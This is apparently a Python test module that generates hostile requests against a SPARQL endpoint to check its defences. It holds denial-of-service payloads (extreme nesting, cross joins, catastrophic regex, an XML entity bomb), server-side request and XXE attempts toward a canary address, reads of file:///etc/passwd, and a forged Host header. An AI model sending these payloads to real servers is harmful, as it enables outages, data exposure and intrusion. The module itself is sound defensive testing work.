"""The requests of `hostile.py`: nesting, chains, joins without end, other servers in every spelling, odd HTTP.

Start at `requests`.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field

QUERY, UPDATE, FORM = "application/sparql-query", "application/sparql-update", "application/x-www-form-urlencoded"
N = 20_000


@dataclass(frozen=True)
class Hostile:
    """One request: what it tries, and how."""

    name: str
    body: bytes | str
    media: str = QUERY
    path: str = "/sparql"
    method: str = "POST"
    headers: dict[str, str] = field(default_factory=dict)


def requests(canary: str) -> Iterator[Hostile]:
    """All of them; `canary` is the address of a server that nobody may reach."""
    yield from (Hostile(f"deep: {name}", text) for name, text in _deep().items())
    yield from (Hostile(f"heavy: {name}", text) for name, text in heavy().items())
    yield from (Hostile(f"reach: {name}", text) for name, text in _reaching(canary).items())
    yield from _odd(canary)


def _deep() -> dict[str, str]:
    """Nesting of each construct, and long chains."""
    return {
        "{": "ASK " + "{" * N + "}" * N,
        "{ just beyond what is allowed": "ASK " + "{" * 61 + "}" * 61,
        "{ as deep as is allowed": "ASK " + "{" * 60 + "}" * 60,
        "(": f"ASK {{ FILTER({'(' * N}1{')' * N}) }}",
        "[": f"ASK {{ {'[ <a:a> ' * N}1{']' * N} }}",
        "( of lists": f"ASK {{ ?s ?p {'(' * N}1{')' * N} }}",
        "path (": f"ASK {{ ?s {'(' * N}<a:a>{')' * N} ?o }}",
        "OPTIONAL": "ASK " + "{ OPTIONAL " * N + "{}" + "}" * N,
        "MINUS": "ASK " + "{ MINUS " * N + "{}" + "}" * N,
        "GRAPH": "ASK " + "{ GRAPH ?g " * N + "{}" + "}" * N,
        "FILTER NOT EXISTS": "ASK " + "{ FILTER NOT EXISTS " * N + "{}" + "}" * N,
        "sub-SELECT": "ASK " + "{ SELECT * " * N + "{}" + "}" * N,
        "IF": f"ASK {{ FILTER({'IF(1,' * N}1{',1)' * N}) }}",
        "COALESCE": f"ASK {{ FILTER({'COALESCE(' * N}1{')' * N}) }}",
        "!": f"ASK {{ FILTER({'!' * N}1) }}",
        "- as sign": f"ASK {{ FILTER({'- ' * N}1 > 0) }}",
        "||": "ASK { FILTER(" + " || ".join(["?x = 1"] * N) + ") }",
        "&&": "ASK { FILTER(" + " && ".join(["?x = 1"] * N) + ") }",
        "+": "ASK { FILTER(" + " + ".join(["1"] * N) + " > 0) }",
        "path /": "ASK { ?s " + "/".join(["<a:a>"] * N) + " ?o }",
        "path |": "ASK { ?s " + "|".join(["<a:a>"] * N) + " ?o }",
        "path ^": f"ASK {{ ?s {'^' * N}<a:a> ?o }}",
        "path *": f"ASK {{ ?s {'(' * 50}<a:a>{'*)' * 50} ?o }}",
        "UNION": "ASK {" + " UNION ".join(["{ ?s ?p ?o }"] * N) + "}",
        "triple terms": f"ASK {{ ?s ?p {'<<( <a:a> <a:a> ' * N}1{' )>>' * N} }}",
        "unclosed": "ASK " + "{" * N,
        "closed before opened": "ASK " + "}" * N + "{" * N,
        "behind a string that never ends": "ASK { ?s ?p '" + "{" * N,
        "in escapes": "ASK " + "\\u007b" * N + "\\u007d" * N,
        "quotes and backslashes": "ASK { " + "'\\'" * N,
    }


def heavy() -> dict[str, str]:
    """What parses at once and runs for ever, or asks for all the memory there is."""
    every = "?s{0} ?p{0} ?o{0} ."
    two = f"{every.format(1)} {every.format(2)}"
    doubled = " ".join(f"BIND(CONCAT(?a{i},?a{i}) AS ?a{i + 1})" for i in range(40))
    return {
        "cross join": "SELECT (COUNT(*) AS ?n) { " + " ".join(map(every.format, range(6))) + " }",
        "cross join, rows": "SELECT * { " + " ".join(map(every.format, range(6))) + " }",
        "cross join, sorted": f"SELECT * {{ {two} }} ORDER BY ?o1 ?o2",
        "cross join, distinct": f"SELECT DISTINCT ?s1 ?s2 ?o1 {{ {two} }}",
        "cross join, grouped": f"SELECT ?o1 ?o2 (COUNT(*) AS ?n) {{ {two} }} GROUP BY ?o1 ?o2",
        "cross join, constructed": f"CONSTRUCT {{ ?s1 ?p2 ?o1 }} WHERE {{ {two} }}",
        "path explosion": "SELECT (COUNT(*) AS ?n) { ?s (!<a:a>|^!<a:a>)* ?o . ?o (!<a:a>|^!<a:a>)* ?x }",
        "path from everywhere": "SELECT (COUNT(*) AS ?n) { ?s (<a:a>|!<a:a>)+ ?o . ?x (<a:a>|!<a:a>)+ ?y }",
        "UNION within bounds": "SELECT (COUNT(*) AS ?n) {" + " UNION ".join(["{ ?s ?p ?o }"] * 1500) + "}",
        "VALUES": "SELECT (COUNT(*) AS ?n) { "
        + " ".join(f"VALUES ?v{i} {{ {_numbers(300)} }}" for i in range(6))
        + " }",
        "VALUES of a megabyte": f"SELECT (COUNT(*) AS ?n) {{ VALUES ?v {{ {_numbers(200_000)} }} }}",
        "star of 300": "ASK { " + " ".join(f"?s <a:p{i}> ?o{i} ." for i in range(300)) + " }",
        "chain of 400": "ASK { " + " ".join(f"?s{i} ?p{i} ?s{i + 1} ." for i in range(400)) + " }",
        "CONCAT doubling": f"SELECT (STRLEN(?a40) AS ?n) {{ BIND('{'x' * 1000}' AS ?a0) {doubled} }}",
        "GROUP_CONCAT of all": f"SELECT (GROUP_CONCAT(STR(?o1)) AS ?x) {{ {two} }}",
        "REPLACE doubling": "SELECT (" + "REPLACE(" * 50 + "'aaaa'" + ", 'a', 'aaaaaaaa')" * 50 + " AS ?x) {}",
        "regex": "SELECT * { ?s ?p ?o FILTER(REGEX(STR(?o), '(a*)*(a*)*(a*)*b{1000}{1000}')) }",
        "regex on long words": f"ASK {{ FILTER(REGEX('{'a' * 100_000}', '(a+)+b')) }}",
        "regex from the data": "SELECT (COUNT(*) AS ?n) { ?s ?p ?o . ?a ?b ?c FILTER(REGEX(STR(?o), STR(?c))) }",
        "DESCRIBE everything": "DESCRIBE * { ?s ?p ?o }",
    }


def _reaching(canary: str) -> dict[str, str]:
    """SERVICE in all spellings, and graphs that a store might fetch."""
    there = f"<{canary}>"
    inside = "{ ?s ?p ?o }"
    return {
        "SERVICE": f"SELECT * {{ SERVICE {there} {inside} }}",
        "SERVICE SILENT": f"SELECT * {{ SERVICE SILENT {there} {inside} }}",
        "sErViCe": f"SELECT * {{ sErViCe{there}{inside} }}",
        "trueSERVICE": f"SELECT * {{ ?s ?p trueSERVICE{there}{inside} }}",
        "1e1SERVICE": f"SELECT * {{ ?s ?p 1e1SERVICE{there}{inside} }}",
        "escaped SERVICE": f"SELECT * {{ S\\u0045RVICE {there} {inside} }}",
        "SERVICE behind a comment": f"SELECT * {{ #\n SERVICE#\n{there} {inside} }}",
        "SERVICE behind a string": f"SELECT * {{ ?s ?p '#'SERVICE {there} {inside} }}",
        "SERVICE by a prefix": f"PREFIX SERVICE: {there} SELECT * {{ ?s ?p 1SERVICE SERVICE: {inside} }}",
        "SERVICE by a variable": f"SELECT * {{ BIND({there} AS ?g) SERVICE ?g {inside} }}",
        "SERVICE: by the empty prefix": f"PREFIX : {there} PREFIX SERVICE: <a:> SELECT * {{ SERVICE:x {inside} }}",
        "trueSERVICEx: by a prefix": f"PREFIX x: {there} SELECT * {{ ?s ?p trueSERVICEx: {inside} }}",
        "SERVICE behind FILTERf:f": f"PREFIX f: <a:> PREFIX FILTERf: <a:> SELECT * {{ FILTERf:f(1<2#>'''\n)"
        f"SERVICE{there}{inside}#'''\n }}",
        "SERVICE in a string that is two": f'SELECT * {{ VALUES ?x {{ """a" }} SERVICE{there}{inside} #\\uD800"""\n }}',
        "SERVICE behind a comparison": f"SELECT * {{ FILTER(1<2#>'\n)SERVICE{there}{inside}#'\n }}",
        "SERVICE in EXISTS": f"SELECT * {{ ?s ?p ?o FILTER EXISTS {{ SERVICE {there} {inside} }} }}",
        "SERVICE in a sub-SELECT": f"SELECT * {{ {{ SELECT * {{ SERVICE {there} {inside} }} }} }}",
        "FROM": f"SELECT * FROM {there} {inside}",
        "FROM NAMED": f"SELECT * FROM NAMED {there} {{ GRAPH ?g {inside} }}",
        "FROM a file": "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
    }


def _odd(canary: str) -> Iterator[Hostile]:
    """Updates, documents, and requests that are odd as HTTP."""
    graphs = " ".join(f"GRAPH ?g{i} {{ ?s{i} ?p{i} ?o{i} }}" for i in range(6))
    service = f"SERVICE <{canary}> {{ ?s ?p ?o }}"
    for name, text in {
        "LOAD": f"LOAD <{canary}>",
        "LOAD SILENT": f"LOAD SILENT <{canary}> INTO GRAPH <a:g>",
        "LOAD, glued": f"CLEAR SILENT DEFAULT;LOAD<{canary}>",
        "LOAD a file": "LOAD <file:///etc/passwd>",
        "SERVICE in an update": f"INSERT {{ GRAPH <a:g> {{ ?s ?p ?o }} }} WHERE {{ {service} }}",
        "USING": f"INSERT {{ GRAPH <a:g> {{ ?s ?p ?o }} }} USING <{canary}> WHERE {{ ?s ?p ?o }}",
        "cross join": "INSERT { GRAPH <a:g> { ?s1 ?p1 ?o1 } } WHERE { " + graphs + " }",
        "deep": "INSERT DATA " + "{" * N + "}" * N,
    }.items():
        yield Hostile(f"update: {name}", text, UPDATE)
    context = json.dumps({"@context": canary, "@id": "a:a", "name": "x"})
    nested = '{"a:p":' * N + "1" + "}" * N
    yield Hostile("document: JSON-LD context", context, "application/ld+json", "/graphs?graph=a:g", "PUT")
    yield Hostile("document: JSON-LD, deep", nested, "application/ld+json", "/graphs?graph=a:g", "PUT")
    yield Hostile("document: Turtle, deep", "<a:a> <a:b> " + "(" * N, "text/turtle", "/graphs?graph=a:g", "PUT")
    entities = "".join(f'<!ENTITY e{i + 1} "{f"&e{i};" * 10}">' for i in range(12))
    bomb = f'<!DOCTYPE r [<!ENTITY e0 "xxxxxxxxxx">{entities}]><r>&e12;</r>'
    yield Hostile("document: XML entities", bomb, "application/rdf+xml", "/graphs?graph=a:g", "PUT")
    outside = f'<!DOCTYPE r [<!ENTITY e SYSTEM "{canary}">]><r>&e;</r>'
    yield Hostile("document: XML outside", outside, "application/rdf+xml", "/graphs?graph=a:g", "PUT")
    for name in ("default-graph-uri", "named-graph-uri", "using-graph-uri"):
        query = urllib.parse.urlencode({"query": "SELECT * { ?s ?p ?o }", name: canary})
        yield Hostile(f"reach: {name}", query, FORM)
    yield Hostile("huge query", "#" * 3_000_000)
    yield Hostile("huge body", b"x" * 8_000_000, FORM)
    yield Hostile("not UTF-8", b"ASK { \xff\xfe\xc0 }")
    yield Hostile("zeros", "ASK {} \0\0\0")
    yield Hostile("thousand fields", "&".join(f"query{i}=x" for i in range(5000)), FORM)
    yield Hostile("compressed", b"\x1f\x8b\x08" + b"\0" * 1000, headers={"content-encoding": "gzip"})
    yield Hostile("header of 100 kB", "ASK {}", headers={"x-long": "x" * 100_000})
    yield Hostile("Host of another", "ASK {}", headers={"host": "evil.example\x7f"})
    yield Hostile("no such method", "ASK {}", method="BREW")


def _numbers(count: int) -> str:
    return " ".join(map(str, range(count)))
